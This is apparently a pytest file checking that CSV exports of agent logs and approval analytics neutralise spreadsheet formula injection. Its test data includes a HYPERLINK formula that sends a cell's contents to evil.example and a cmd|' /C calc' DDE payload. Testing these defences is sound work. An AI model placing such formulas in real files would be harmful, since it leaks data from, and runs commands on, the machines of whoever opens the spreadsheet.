"""Every CSV export neutralises spreadsheet formulas (core.base.csv_cells, the OWASP
rule): a cell starting with = + - @, a tab or a carriage return gets a single quote
before it; plain numbers stay numbers. The execution-log export (an agent's final
answer) and the approval analytics (an approver or type name) go through it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from core.agents.execution_logs import CSV_COLUMNS, LogRow, to_csv
from core.base.csv_cells import csv_text, safe_cell
from core.ops.analytics import ApprovalAnalytics, DecisionTime, RubberStamps, analytics_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain = text", "plain = text"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("2e-3", "2e-3"),
        (-4, -4),
        (None, ""),
    ],
)
def test_a_cell_never_starts_a_formula(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_execution_log_export_writes_a_final_answer_as_text() -> None:
    row = LogRow(
        id=1,
        created_at=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
        tenant=None,
        workflow_id="w1",
        session_id=None,
        step_name="=step",
        agent="agent",
        kind="final_answer",
        level="info",
        tool_name="@tool",
        message=HYPERLINK,
        duration_ms=None,
        data={"answer": "=1"},
    )
    header, cells = read(to_csv([row]))
    assert header == list(CSV_COLUMNS)
    record = dict(zip(header, cells, strict=True))
    assert record["message"] == "'" + HYPERLINK
    assert record["step_name"] == "'=step"
    assert record["tool_name"] == "'@tool"
    assert record["duration_ms"] == "" and record["id"] == "1"
    assert record["data"] == '{"answer": "=1"}'  # a JSON object, starting with {


def test_the_analytics_export_writes_names_as_text() -> None:
    figures = ApprovalAnalytics(
        since=datetime(2026, 1, 1, tzinfo=UTC),
        requests=1,
        expired=0,
        escalated=0,
        decision_times=[DecisionTime("type", "=cmd()", 1, 1.0, 2.0)],
        rubber_stamps=[RubberStamps("+x@example.com", 1, 1)],
    )
    rows = read(analytics_csv(figures))
    assert rows[1][2] == "'=cmd()"
    assert [r for r in rows if r[0] == "rubber_stamps"][0][2] == "'+x@example.com"


def test_csv_text_quotes_as_csv_does() -> None:
    assert csv_text(["a", "b"], [["x,y", 'say "hi"'], [1, None]]) == 'a,b\n"x,y","say ""hi"""\n1,\n'
